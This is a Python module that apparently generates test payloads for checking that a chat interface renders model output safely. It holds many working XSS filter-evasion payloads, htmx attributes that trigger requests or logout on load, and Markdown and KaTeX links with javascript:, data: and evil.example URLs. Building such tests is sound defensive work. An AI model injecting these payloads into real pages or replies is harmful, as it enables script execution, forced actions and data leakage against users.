"""The hostile-output corpus: strings a model (or a memory made from one) might say.

The Big List of Naughty Strings (vendored in corpus/blns.json) plus our own cases. Each of our
own cases would set `window.__pwned` or fetch from `evil.example` if anything executed or loaded
it; the list's own XSS cases call alert(), which the tests hook.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

CORPUS = Path(__file__).resolve().parent / "corpus"
EVIL = "https://evil.example"
PWN = "window.__pwned=1"


@dataclass(frozen=True)
class Payload:
    number: int
    family: str
    text: str

    @property
    def before(self) -> str:
        return f"before{self.number:04d}"

    @property
    def after(self) -> str:
        return f"after{self.number:04d}"

    def framed(self) -> str:
        """The payload between two plain words that must both stay on screen."""
        return f"{self.before}\n\n{self.text}\n\n{self.after}\n\n"


def _blns() -> list[str]:
    strings = json.loads((CORPUS / "blns.json").read_text(encoding="utf-8"))
    return [s for s in strings if s.strip()]


# OWASP's XSS filter-evasion cheat sheet, rewritten to set the sentinel global or hit evil.example.
FILTER_EVASION = [
    f"<script>{PWN}</script>",
    f"<SCRIPT SRC={EVIL}/xss.js></SCRIPT>",
    f"<ScRiPt>{PWN}</sCrIpT>",
    f"<<SCRIPT>{PWN}//<</SCRIPT>",
    f'<SCRIPT/XSS SRC="{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT/SRC="{EVIL}/xss.js"></SCRIPT>',
    f"<SCRIPT SRC={EVIL}/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    f'<IMG SRC="javascript:{PWN};">',
    f"<IMG SRC=javascript:{PWN}>",
    f"<IMG SRC=JaVaScRiPt:{PWN}>",
    f"<IMG SRC=`javascript:{PWN}`>",
    f'<IMG """><SCRIPT>{PWN}</SCRIPT>"\\>',
    "<IMG SRC=javascript:eval(String.fromCharCode("
    "119,105,110,100,111,119,46,95,95,112,119,110,101,100,61,49))>",
    f'<IMG SRC=# onmouseover="{PWN}">',
    f'<IMG SRC= onmouseover="{PWN}">',
    f'<IMG onmouseover="{PWN}">',
    f'<IMG SRC=/ onerror="{PWN}"></img>',
    f'<img src=x onerror="{PWN}">',
    f"<img src=x onerror={PWN}//",
    f"<img src=x:x onerror=javascript:{PWN}>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#119;&#105;&#110;&#100;&#111;&#119;&#46;&#95;&#95;&#112;&#119;&#110;&#101;&#100;&#61;&#49;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
    "&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    f'<IMG SRC="jav\tascript:{PWN};">',
    f'<IMG SRC="jav&#x09;ascript:{PWN};">',
    f'<IMG SRC="jav&#x0A;ascript:{PWN};">',
    f'<IMG SRC="jav&#x0D;ascript:{PWN};">',
    f'<IMG SRC=" &#14;  javascript:{PWN};">',
    f'<IMG SRC="java\x00script:{PWN}">'.replace("\x00", "\\0"),
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={PWN}>",
    f"<BODY ONLOAD={PWN}>",
    f'<IMG DYNSRC="javascript:{PWN}">',
    f'<IMG LOWSRC="javascript:{PWN}">',
    f'<BGSOUND SRC="javascript:{PWN};">',
    f'<BR SIZE="&{{{PWN}}}">',
    f'<LINK REL="stylesheet" HREF="javascript:{PWN};">',
    f'<LINK REL="stylesheet" HREF="{EVIL}/xss.css">',
    f"<STYLE>@import'{EVIL}/xss.css';</STYLE>",
    f'<META HTTP-EQUIV="Link" Content="<{EVIL}/xss.css>; REL=stylesheet">',
    f'<STYLE>BODY{{-moz-binding:url("{EVIL}/xss.xml#xss")}}</STYLE>',
    f'<STYLE>li {{list-style-image: url("javascript:{PWN}");}}</STYLE><UL><LI>XSS</br>',
    f'<IMG STYLE="xss:expr/*XSS*/ession({PWN})">',
    f'<XSS STYLE="xss:expression({PWN})">',
    f'<STYLE TYPE="text/javascript">{PWN};</STYLE>',
    f'<STYLE>.XSS{{background-image:url("javascript:{PWN}");}}</STYLE><A CLASS=XSS></A>',
    f'<STYLE type="text/css">BODY{{background:url("javascript:{PWN}")}}</STYLE>',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{PWN};">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0; URL={EVIL}/;URL=javascript:{PWN};">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url={EVIL}/">',
    f'<IFRAME SRC="javascript:{PWN};"></IFRAME>',
    f'<IFRAME SRC=# onmouseover="{PWN}"></IFRAME>',
    f'<IFRAME SRCDOC="&lt;script&gt;parent.{PWN}&lt;/script&gt;"></IFRAME>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<FRAMESET><FRAME SRC="javascript:{PWN};"></FRAMESET>',
    f'<TABLE BACKGROUND="javascript:{PWN}">',
    f'<TABLE><TD BACKGROUND="javascript:{PWN}">',
    f'<TABLE BACKGROUND="{EVIL}/bg.png"><TR><TD>cell</TD></TR></TABLE>',
    f'<DIV STYLE="background-image: url(javascript:{PWN})">',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061"
    "\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053"
    "\\0053\\0027\\0029'\\0029\">",
    f'<DIV STYLE="background-image: url({EVIL}/bg.png)">div</DIV>',
    f'<DIV STYLE="width: expression({PWN});">',
    f'<BASE HREF="javascript:{PWN};//">',
    f'<base href="{EVIL}/">',
    f'<OBJECT TYPE="text/x-scriptlet" DATA="{EVIL}/scriptlet.html"></OBJECT>',
    f'<OBJECT DATA="javascript:{PWN}"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,'
    "PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3Zn"
    "IiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8x"
    "OTk5L3hs"
    "aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2Ny"
    "aXB0IHR5"
    'cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" '
    'AllowScriptAccess="always"></EMBED>',
    f'<embed src="{EVIL}/e.swf">',
    f'<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:{PWN}"></B></I></XML>',
    f'<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
    f'<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
    f'to="XSS<SCRIPT DEFER>{PWN}</SCRIPT>"></BODY></HTML>',
    f'<SCRIPT a=">" SRC="{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT =">" SRC="{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT a=">" \'\' SRC="{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT "a=\'>\'" SRC="{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT a=`>` SRC="{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT a=">\'>" SRC="{EVIL}/xss.js"></SCRIPT>',
    f"<A HREF=\"javascript:document.location='{EVIL}/'\">XSS</A>",
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
    '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
    '<A HREF="//evil.example/">XSS</A>',
    f'<a href="javascript&colon;{PWN}">colon</a>',
    f'<a href="&#x6A;avascript:{PWN}">hex</a>',
    f'<a href="\x01javascript:{PWN}">ctrl</a>'.replace("\x01", "&#1;"),
    f'<a href="data:text/html,<script>{PWN}</script>">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    f'<a href="{EVIL}/" onclick="{PWN}" hx-post="/x">click</a>',
    f'<svg/onload="{PWN}">',
    f"<svg><script>{PWN}</script></svg>",
    f'<svg><image href="{EVIL}/a.png"></image></svg>',
    f'<svg><a xlink:href="javascript:{PWN}"><text x="20" y="20">svg</text></a></svg>',
    f'<svg><animate onbegin="{PWN}" attributeName="x" dur="1s">',
    f'<svg><set attributeName="onload" to="{PWN}"/></svg>',
    f"<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;"
    f"&lt;image href='1' onerror='{PWN}' /&gt;&lt;/svg&gt;#x\" />",
    f'<math><maction actiontype="statusline" xlink:href="javascript:{PWN}">m</maction></math>',
    f'<details open ontoggle="{PWN}">',
    f'<details open ontoggle="{PWN}"><summary>Details</summary>inside',
    f'<input autofocus onfocus="{PWN}">',
    f'<select autofocus onfocus="{PWN}">',
    f'<textarea autofocus onfocus="{PWN}">',
    f'<keygen autofocus onfocus="{PWN}">',
    f'<video><source onerror="{PWN}"></video>',
    f'<video poster="{EVIL}/v.png"></video>',
    f'<audio src=x onerror="{PWN}">',
    f'<audio src="{EVIL}/a.mp3"></audio>',
    f'<marquee onstart="{PWN}">m</marquee>',
    f'<body onpageshow="{PWN}">',
    f'<object data="{EVIL}/o"></object>',
    f'<form action="{EVIL}/"><input name="q"><button>go</button></form>',
    f'<form><button formaction="javascript:{PWN}">X</button></form>',
    f'<isindex action="javascript:{PWN}" type="submit">',
    f'<img srcset="{EVIL}/1.png 1x" src="{EVIL}/0.png">',
    '<img src="//evil.example/p.png"><img src="/\\evil.example/q.png">',
    '<img src="data:image/png;base64,AAAA">',
    f'<picture><source srcset="{EVIL}/p.png"><img src="x"></picture>',
    f'<link rel="prefetch" href="{EVIL}/prefetch">',
    f'<link rel="preload" as="script" href="{EVIL}/preload.js">',
    f'<link rel="import" href="{EVIL}/import.html">',
    f'<portal src="{EVIL}/portal"></portal>',
    f'<template><img src=x onerror="{PWN}"></template>',
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
    f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    f'<img src onerror={PWN}>"></style></h1>',
    f'<svg><style><img src=x onerror="{PWN}"></style></svg>',
    f'<div id="x" tabindex="1" onfocusin="{PWN}"></div>',
    f'<span style="background:url({EVIL}/s.png)">styled</span>',
    f'<div style="position:fixed;inset:0;background:url({EVIL}/overlay.png)">overlay</div>',
    '<span class="katex" data-thalamus-ks="position:fixed;inset:0">fake</span>',
    '<p id="composer" name="csrfmiddlewaretoken">clobber</p>',
    '<img name="getElementById" src="/x"><form id="htmx"></form>',
    f'"><script>{PWN}</script>',
    f"'><script>{PWN}</script>",
    f"</textarea><script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f"</style><script>{PWN}</script>",
    f"</noscript><script>{PWN}</script>",
    f"--><script>{PWN}</script>",
    f"]]><script>{PWN}</script>",
    f"</div></div></div></article></main><script>{PWN}</script>",
    f"<!--<img src=x onerror={PWN}>-->",
    f"<!--[if gte IE 4]><SCRIPT>{PWN}</SCRIPT><![endif]-->",
    f"<![CDATA[<script>{PWN}</script>]]>",
    f'<?xml version="1.0"?><script>{PWN}</script>',
    f"{{{{constructor.constructor('{PWN}')()}}}}",
    f"${{{PWN}}}",
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/"
    f"+/[*/[]/+{PWN}//'>",
]

# Raw HTML that swallows what follows it when a browser parses it as HTML.
SWALLOWERS = [
    "<details>",
    "<details open>",
    "<details><summary>Details</summary>",
    "<details><summary>Details</summary>\nhidden words",
    "<summary>",
    "<!--",
    "<!-- unclosed comment",
    "<script>",
    "<script type=text/plain>",
    "<style>",
    "<textarea>",
    "<title>",
    "<xmp>",
    "<plaintext>",
    "<noscript>",
    "<noembed>",
    "<noframes>",
    "<iframe>",
    "<template>",
    "<select>",
    "<table>",
    "<table><tr><td>",
    "<ul><li>",
    "<pre>",
    "<code>",
    "<a href=",
    '<a href="',
    "<img src='",
    '<div title="',
    "<![CDATA[",
    "<?php",
    "<svg>",
    "<math>",
    "<object>",
    "<div hidden>",
    '<div style="display:none">',
    '<span style="font-size:0">',
    '<p style="color:transparent">',
    "<dialog open>",
    "<del>",
    "<s>",
    "<h1>",
    "<blockquote>",
    "</p></div></div></section>",
    "</textarea>",
    "</article></main></body></html>",
    "<div>",
    "<span>",
    "<b><i><u>",
    "<sup>",
]

# htmx and its websocket / SSE extensions: attributes that would make a request or run code.
HTMX_ATTRIBUTES = [
    f'hx-get="{EVIL}/" hx-trigger="load"',
    'hx-get="/chat/new" hx-trigger="load"',
    'hx-post="/accounts/logout/" hx-trigger="load"',
    'hx-delete="/memory/1/forget" hx-trigger="load"',
    'hx-put="/x" hx-trigger="load"',
    'hx-patch="/x" hx-trigger="load"',
    f'hx-on:click="{PWN}"',
    f'hx-on::load="{PWN}"',
    f'hx-on:htmx:load="{PWN}"',
    f'hx-on--load="{PWN}"',
    f'data-hx-on:htmx:load="{PWN}"',
    f'data-hx-get="{EVIL}/" data-hx-trigger="load"',
    f'hx-trigger="load" hx-get="/x" hx-vals="js:{{a: {PWN}}}"',
    f'hx-get="/x" hx-trigger="load" hx-headers="js:{{a: {PWN}}}"',
    'ws-send hx-trigger="load"',
    'hx-ext="ws" ws-connect="wss://evil.example/ws"',
    f'hx-ext="sse" sse-connect="{EVIL}/sse"',
    'hx-swap-oob="true" id="composer"',
    'hx-swap-oob="innerHTML:#messages"',
    'hx-swap-oob="outerHTML" id="stop-form"',
    'hx-boost="true"',
    'hx-target="body" hx-get="/x" hx-trigger="load" hx-swap="outerHTML"',
    'hx-include="[name=csrfmiddlewaretoken]" hx-post="/x" hx-trigger="load"',
    f'hx-trigger="every 1s" hx-get="{EVIL}/poll"',
]
HTMX_ELEMENTS = [
    "<div {attrs}>htmx div</div>",
    '<a href="/" {attrs}>htmx link</a>',
    "<form {attrs}><button>htmx form</button></form>",
    '<img src="/static/favicon.svg" {attrs}>',
    "<span {attrs}>htmx span</span>",
]

# Markdown's own ways to make a link or an image, with URLs that must never run or load.
URLS = [
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    f"javascript&#58;{PWN}",
    f"javascript&colon;{PWN}",
    f"&#x6A;avascript:{PWN}",
    f"java%0ascript:{PWN}",
    f"%6Aavascript:{PWN}",
    f"jav\tascript:{PWN}",
    f"\u0001javascript:{PWN}",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"data:text/html,<script>{PWN}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=",
    "file:///etc/passwd",
    "//evil.example/img.png",
    f"{EVIL}/track.png?cookie=1",
    "/\\evil.example/x.png",
]
MARKDOWN_FORMS = [
    "[a link]({url})",
    '[a titled link]({url} "title")',
    "[an angled link](<{url}>)",
    "![an image]({url})",
    '![an image]({url} "\\" onerror=\\"{pwn}")',
    "[a reference][r]\n\n[r]: {url}",
    "![a reference image][i]\n\n[i]: {url}",
    "<{url}>",
    "[[nested]({url})]({url})",
    "[![image in link]({url})]({url})",
    "[a link with a `code` text and **bold**]({url})",
    '[x]({url} "hx-get=/x hx-trigger=load")',
]

# KaTeX: \href, \url and friends must stay inert (trust is off) under every math delimiter.
KATEX_COMMANDS = [
    f"\\href{{javascript:{PWN}}}{{click}}",
    "\\href{vbscript:msgbox(1)}{click}",
    "\\href{data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+}{click}",
    f"\\href{{{EVIL}/}}{{click}}",
    f"\\url{{javascript:{PWN}}}",
    f"\\url{{{EVIL}/}}",
    f"\\includegraphics{{{EVIL}/k.png}}",
    f"\\includegraphics[height=1em]{{javascript:{PWN}}}",
    f"\\htmlStyle{{background:url({EVIL}/bg.png)}}{{x}}",
    "\\htmlClass{copy-btn}{x}",
    "\\htmlId{composer}{x}",
    "\\htmlData{hx-get=/x, hx-trigger=load}{x}",
    f"\\def\\x{{\\href{{javascript:{PWN}}}{{y}}}}\\x",
    "\\text{<img src=x onerror=window.__pwned=1>}",
]
MATH_DELIMITERS = ["${tex}$", "$${tex}$$", "\\({tex}\\)", "\\[{tex}\\]", "```math\n{tex}\n```"]

# Where in a Markdown document a raw-HTML payload may sit.
CONTEXTS = [
    "{p}",
    "Some words {p} more words.",
    "- a list item {p}",
    "> a quote {p}",
    "| col |\n|---|\n| {p} |",
]


def _own() -> list[tuple[str, str]]:
    cases: list[tuple[str, str]] = []
    for payload in FILTER_EVASION:
        for context in CONTEXTS[:3]:
            cases.append(("filter-evasion", context.replace("{p}", payload)))
    for payload in SWALLOWERS:
        for context in CONTEXTS:
            cases.append(("raw-html", context.replace("{p}", payload)))
    for attrs in HTMX_ATTRIBUTES:
        for element in HTMX_ELEMENTS:
            cases.append(("htmx", element.replace("{attrs}", attrs)))
    for url in URLS:
        for form in MARKDOWN_FORMS:
            cases.append(("markdown-link", form.replace("{url}", url).replace("{pwn}", PWN)))
    for tex in KATEX_COMMANDS:
        for delimiter in MATH_DELIMITERS:
            cases.append(("katex", delimiter.replace("{tex}", tex)))
    return cases


def hostile_payloads() -> list[Payload]:
    cases = [("blns", text) for text in _blns()] + _own()
    return [Payload(number, family, text) for number, (family, text) in enumerate(cases)]


def batches(payloads: list[Payload], size: int) -> list[list[Payload]]:
    return [payloads[start : start + size] for start in range(0, len(payloads), size)]


def reply_of(batch: list[Payload]) -> str:
    return "".join(payload.framed() for payload in batch)
